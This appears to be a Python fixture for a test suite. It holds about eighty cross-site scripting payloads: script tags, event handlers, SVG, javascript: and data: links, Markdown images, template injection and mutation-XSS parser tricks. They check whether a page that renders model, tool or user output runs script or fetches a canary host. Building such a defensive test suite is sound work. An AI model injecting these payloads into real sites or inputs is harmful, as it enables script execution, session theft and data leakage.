"""Texts that would run as a script, or fetch something, on a page that trusts what models, tools and users say.

Each sets `window.__hit`, opens a dialog, or asks the address that stands for `CANARY`. They were written for this suite
after the kinds that are known: tags, handlers, addresses, Markdown, entities, templates, and what only becomes a tag
when a parser has mended it.
"""

_HIT = "window.__hit=1"

_TAGS = (
    "<script>HIT</script>",
    "<ScRiPt>HIT</sCrIpT >",
    "<script src=CANARY/a.js></script>",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    "<script\n>HIT</script\n>",
    "<script type=module>import 'CANARY/b.js'</script>",
    '<noscript><p title="</noscript><img src=x onerror=HIT>">',
    "<iframe src=CANARY/c></iframe>",
    '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
    "<object data=CANARY/d></object>",
    "<embed src=CANARY/e>",
    "<link rel=stylesheet href=CANARY/f.css>",
    "<meta http-equiv=refresh content='0;url=CANARY/g'>",
    "<base href=CANARY/><a href=h>go</a>",
    "<style>*{background:url(CANARY/i)}</style>",
    "<form action=CANARY/j><button formaction=javascript:HIT>send</button></form>",
    "<portal src=CANARY/k></portal>",
    "<template><script>HIT</script></template>",
)

_HANDLERS = (
    "<img src=x onerror=HIT>",
    "<img src=x onerror=alert(1)//",
    "<IMG/SRC=x/ONERROR=HIT>",
    "<img src='x'onerror='HIT'>",
    "<img src=x o\x00nerror=HIT>",
    "<body onload=HIT>",
    "<input autofocus onfocus=HIT>",
    "<details open ontoggle=HIT>x</details>",
    "<video><source onerror=HIT></video>",
    "<audio src=x onerror=HIT>",
    "<p style='animation:spin 1s' onanimationstart=HIT>x</p>",
    "<div onpointerover=HIT style='position:fixed;inset:0'>x</div>",
    "<marquee onstart=HIT>x</marquee>",
    "<x tabindex=1 autofocus onfocus=HIT>x</x>",
)

_SVG = (
    "<svg onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:HIT'><text y=20>go</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSd3aW5kb3cuX19oaXQ9MSc+PC9zdmc+#x'/></svg>",
    "<svg><image href=CANARY/l /></svg>",
    "<svg><foreignObject><iframe src=CANARY/m></iframe></foreignObject></svg>",
)

_ADDRESSES = (
    "<a href='javascript:HIT'>go</a>",
    "[go](javascript:HIT)",
    "[go](JaVaScRiPt:HIT)",
    "[go](java\tscript:HIT)",
    "[go](\x01javascript:HIT)",
    "[go](&#106;avascript:HIT)",
    "[go](javascript&colon;HIT)",
    "[go](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19oaXQ9MTwvc2NyaXB0Pg==)",
    "[go](vbscript:HIT)",
    "[go](<javascript:HIT>)",
    "<javascript:HIT>",
    "[go][1]\n\n[1]: javascript:HIT",
    "[go](https://x'onclick='HIT)",
    '[go](https://x "t" onclick="HIT")',
    "[go](//HOST/n)",
)

_MARKDOWN = (
    "![](CANARY/o.png)",
    '![x](x"onerror="HIT)',
    "![x](javascript:HIT)",
    "![x][2]\n\n[2]: CANARY/p.png",
    "[![x](CANARY/q.png)](javascript:HIT)",
    "```html\n<script>HIT</script>\n```",
    '```"><img/src=x/onerror=HIT>\nx\n```',
    "`<img src=x onerror=HIT>`",
    "| a |\n|---|\n| <img src=x onerror=HIT> |",
    "# <svg/onload=HIT>",
    "> <iframe src=CANARY/r>",
    "- [x] <input onfocus=HIT autofocus>",
    "<!-- --!><img src=x onerror=HIT> -->",
    "*<img src=x onerror=**HIT**>*",
)

_MENDED = (
    "&lt;img src=x onerror=HIT&gt;",
    "&#60;script&#62;HIT&#60;/script&#62;",
    "{{constructor.constructor('HIT')()}}",
    "${HIT}",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=HIT src>">',
    '<svg></p><style><a id="</style><img src=x onerror=HIT>">',
    '<textarea><p title="</textarea><img src=x onerror=HIT>">',
    '<title><a title="</title><img src=x onerror=HIT>">',
    '<xmp><p title="</xmp><img src=x onerror=HIT>">',
    "<a id=__hit><a id=__hit name=x href=clobber:1>x</a>",
    '"><script>HIT</script>',
    "'-HIT-'",
    "</textarea></title></style></script><img src=x onerror=HIT>",
)

_ALL = (*_TAGS, *_HANDLERS, *_SVG, *_ADDRESSES, *_MARKDOWN, *_MENDED)


def payloads(canary):
    """All of them; `canary` is the address of a server that must not be asked."""
    host = canary.partition("//")[2]
    return [text.replace("HIT", _HIT).replace("CANARY", canary).replace("HOST", host) for text in _ALL]
